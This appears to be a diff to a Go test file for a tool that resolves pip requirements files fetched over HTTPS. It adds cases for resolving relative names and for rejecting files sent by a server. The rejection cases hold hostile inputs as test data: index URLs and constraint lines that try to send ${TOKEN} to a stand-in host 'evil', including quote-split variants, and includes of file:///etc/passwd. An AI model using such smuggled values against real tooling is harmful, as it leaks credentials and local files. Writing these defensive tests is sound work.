@@ -55,6 +55,33 @@ func TestRemote(t *testing.T) {
 	}
 }
 
+// TestRemoteBeside: a relative name in a file that was fetched is beside it, whatever variables the URL has.
+func TestRemoteBeside(t *testing.T) {
+	for name, c := range map[string]struct{ from, names, want string }{
+		"credentials":            {"https://${U}:${P}@h/a/b.txt", "c.txt", "https://${U}:${P}@h/a/c.txt"},
+		"a host":                 {"https://${HOST}/a/b.txt", "c.txt", "https://${HOST}/a/c.txt"},
+		"a port":                 {"https://h:${PORT}/a/b.txt", "../c.txt", "https://h:${PORT}/c.txt"},
+		"a directory":            {"https://h/${V}/b.txt", "./d/c.txt", "https://h/${V}/d/c.txt"},
+		"the parent":             {"https://h/${V}/b/b.txt", "../c.txt", "https://h/${V}/c.txt"},
+		"above the root":         {"https://h/${V}/b.txt", "../../../c.txt", "https://h/c.txt"},
+		"the root":               {"https://${U}@h/a/b.txt", "/c.txt", "https://${U}@h/c.txt"},
+		"another host":           {"https://${U}@h/a/b.txt", "//g/c.txt", "https://g/c.txt"},
+		"another URL":            {"https://${U}@h/a/b.txt", "https://g/c.txt?x=1", "https://g/c.txt?x=1"},
+		"the file's own token":   {"https://h/a/b.txt?token=${TOKEN}", "c.txt", "https://h/a/c.txt"},
+		"a query of the name":    {"https://h/${V}/b.txt", "c.txt?raw=1", "https://h/${V}/c.txt?raw=1"},
+		"a slash in the query":   {"https://h/a/b.txt?ref=x/${V}", "c.txt", "https://h/a/c.txt"},
+		"no directory":           {"https://h?file=${V}", "c.txt", "https://h/c.txt"},
+		"something like a query": {"https://h/${V}/b.txt", "c%20d%3Fe.txt", "https://h/${V}/c%20d%3Fe.txt"},
+	} {
+		o := at(project(t, "-- requirements.txt --\n-r "+c.from+"\n"), "")
+		o.Texts = map[string][]byte{c.from: []byte("-c " + c.names + "\n")}
+		w, err := Find(o)
+		if err != nil || len(w.Unfetched) != 1 || w.Unfetched[0].Text != c.want {
+			t.Errorf("%s: %s in %s is %v (%v), want %s", name, c.names, c.from, w.Unfetched, err, c.want)
+		}
+	}
+}
+
 // TestRemoteRejects: what a server sends names neither files nor variables of this machine.
 func TestRemoteRejects(t *testing.T) {
 	many := ""
@@ -67,6 +94,8 @@ func TestRemoteRejects(t *testing.T) {
 		"the root":          {"a @ file:///etc\n", "can't name files of this machine"},
 		"links":             {"--find-links wheels\n", "can't name files of this machine"},
 		"a variable":        {"--extra-index-url https://${TOKEN}@evil/simple\n", "https://h/r.txt:1: only files of the project may have variables, such as ${TOKEN}"},
+		"a split variable":  {"-c 'https://evil/?x=$'{TOKEN}\n", "only files of the project may have variables, such as ${TOKEN}"},
+		"a split index":     {"--extra-index-url https://evil/$'{'TOKEN}/simple\n", "only files of the project may have variables, such as ${TOKEN}"},
 		"less than TLS":     {"-r http://h/more.txt\n", "only https URLs and files of the project are read"},
 		"a local include":   {"-r file:///etc/passwd\n", "only https URLs and files of the project are read"},
 		"a page":            {"<!DOCTYPE html>\n", `https://h/r.txt:1: column 1 of "<!DOCTYPE html>"`},
